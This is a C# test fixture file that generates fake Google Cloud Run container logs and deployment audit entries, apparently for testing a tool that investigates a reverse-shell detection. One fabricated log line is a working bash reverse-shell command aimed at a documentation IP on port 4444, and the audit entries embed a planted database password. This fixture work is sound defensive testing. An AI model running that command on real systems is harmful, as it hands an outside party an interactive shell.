using System.Globalization;
using System.Text.Json.Nodes;
using static ReverseShellFunction.Fakes.GoogleApis.FakeGoogleData;

namespace ReverseShellFunction.Fakes.GoogleApis;

/// <summary>LogEntry fixtures: container output around the event, and Admin Activity audit entries.</summary>
internal static class FakeLogEntries
{
    private static readonly string[] s_lines =
    [
        "GET /cart 200 12ms",
        "POST /checkout 201 88ms",
        "GET /healthz 200 1ms",
        "node: warning: deprecated option",
        "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
    ];

    /// <summary>
    /// <paramref name="count"/> entries within 25 minutes before to 4 minutes after the event, and decoys outside;
    /// each text followed by <paramref name="payloadBytes"/> characters of seeded pseudo-random base64 when positive
    /// (or of <paramref name="repeated"/> when given).
    /// </summary>
    public static List<JsonObject> Container(int count, int payloadBytes = 0, char? repeated = null)
    {
        var entries = new List<JsonObject>();
#pragma warning disable CA5394 // Not security: a seeded generator, so the same options give the same fixtures.
        var random = new Random(count);
        var raw = new byte[((Math.Max(0, payloadBytes) + 3) / 4) * 3];
        for (var i = 0; i < count; i++)
        {
            var time = EventTime.AddMinutes(-25 + (29.0 * i / Math.Max(1, count)));
            var revision = i % 4 == 0 ? CanaryRevision : LatestRevision;
            var text = s_lines[i % s_lines.Length];
            if (payloadBytes > 0 && repeated is { } character)
            {
                text = $"{text} {new string(character, payloadBytes)}";
            }
            else if (payloadBytes > 0)
            {
                random.NextBytes(raw);
                text = $"{text} {Convert.ToBase64String(raw)[..payloadBytes]}";
            }

            entries.Add(ContainerEntry(i, time, Service, revision, text));
        }
#pragma warning restore CA5394

        entries.Add(ContainerEntry(90001, EventTime.AddHours(-2), Service, LatestRevision, "before the window"));
        entries.Add(ContainerEntry(90002, EventTime.AddMinutes(1), "other-api", "other-api-00001-aaa", "another service"));
        return entries;
    }

    /// <summary>Deployments of the service over the last days; create and replace calls carry the planted secret.</summary>
    public static List<JsonObject> Audit(int count)
    {
        var entries = new List<JsonObject>();
        for (var i = 0; i < count; i++)
        {
            var time = EventTime.AddDays(-6).AddHours(36.0 * i);
            entries.Add((i % 2) switch
            {
                0 => AuditEntry(i, time, "google.cloud.run.v1.Services.ReplaceService", $"namespaces/{ProjectId}/services/{Service}", KnativeRequest()),
                _ => AuditEntry(i, time, "google.cloud.run.v2.Services.UpdateService", $"projects/{ProjectId}/locations/{Location}/services/{Service}", V2Request()),
            });
        }

        entries.Add(AuditEntry(90003, EventTime.AddDays(-1), "google.cloud.run.v1.Services.ReplaceService", $"namespaces/{ProjectId}/services/other-api", KnativeRequest(), "other-api"));
        return entries;
    }

    private static JsonObject ContainerEntry(int i, DateTimeOffset time, string service, string revision, string text) => new()
    {
        ["insertId"] = "c" + i.ToString("D6", CultureInfo.InvariantCulture),
        ["logName"] = $"projects/{ProjectId}/logs/run.googleapis.com%2F{(i % 3 == 0 ? "stderr" : "stdout")}",
        ["resource"] = new JsonObject
        {
            ["type"] = "cloud_run_revision",
            ["labels"] = Labels(service, revision),
        },
        ["timestamp"] = FakeFindings.Timestamp(time),
        ["receiveTimestamp"] = FakeFindings.Timestamp(time.AddMilliseconds(350)),
        ["severity"] = i % 3 == 0 ? "ERROR" : "INFO",
        ["textPayload"] = text,
        ["labels"] = new JsonObject { ["instanceId"] = "0069c7a9881d4a8e4d5f" },
    };

    private static JsonObject AuditEntry(int i, DateTimeOffset time, string method, string resourceName, JsonObject request, string service = Service) => new()
    {
        ["insertId"] = "a" + i.ToString("D6", CultureInfo.InvariantCulture),
        ["logName"] = $"projects/{ProjectId}/logs/cloudaudit.googleapis.com%2Factivity",
        ["resource"] = new JsonObject { ["type"] = "cloud_run_revision", ["labels"] = Labels(service, "") },
        ["timestamp"] = FakeFindings.Timestamp(time),
        ["severity"] = "NOTICE",
        ["protoPayload"] = new JsonObject
        {
            ["@type"] = "type.googleapis.com/google.cloud.audit.AuditLog",
            ["serviceName"] = "run.googleapis.com",
            ["methodName"] = method,
            ["resourceName"] = resourceName,
            ["authenticationInfo"] = new JsonObject { ["principalEmail"] = "ci-deploy@shop-prod-4471.iam.gserviceaccount.com" },
            ["request"] = request,
        },
    };

    private static JsonObject Labels(string service, string revision) => new()
    {
        ["project_id"] = ProjectId,
        ["service_name"] = service,
        ["revision_name"] = revision,
        ["location"] = Location,
        ["configuration_name"] = service,
    };

    // The v1 (Knative) request of ReplaceService: env under spec.template.spec.containers.
    private static JsonObject KnativeRequest() => new()
    {
        ["@type"] = "type.googleapis.com/google.cloud.run.v1.ReplaceServiceRequest",
        ["service"] = new JsonObject
        {
            ["apiVersion"] = "serving.knative.dev/v1",
            ["kind"] = "Service",
            ["spec"] = new JsonObject
            {
                ["template"] = new JsonObject
                {
                    ["spec"] = new JsonObject
                    {
                        ["containers"] = new JsonArray(new JsonObject
                        {
                            ["image"] = $"{Location}-docker.pkg.dev/{ProjectId}/services/{Service}:2026.11.3",
                            ["env"] = new JsonArray(new JsonObject { ["name"] = "DB_PASSWORD", ["value"] = PlantedSecret }),
                        }),
                    },
                },
            },
        },
    };

    private static JsonObject V2Request() => new()
    {
        ["@type"] = "type.googleapis.com/google.cloud.run.v2.UpdateServiceRequest",
        ["service"] = new JsonObject
        {
            ["template"] = new JsonObject
            {
                ["containers"] = new JsonArray(new JsonObject
                {
                    ["env"] = new JsonArray(new JsonObject { ["name"] = "DB_PASSWORD", ["value"] = PlantedSecret }),
                }),
            },
        },
    };
}
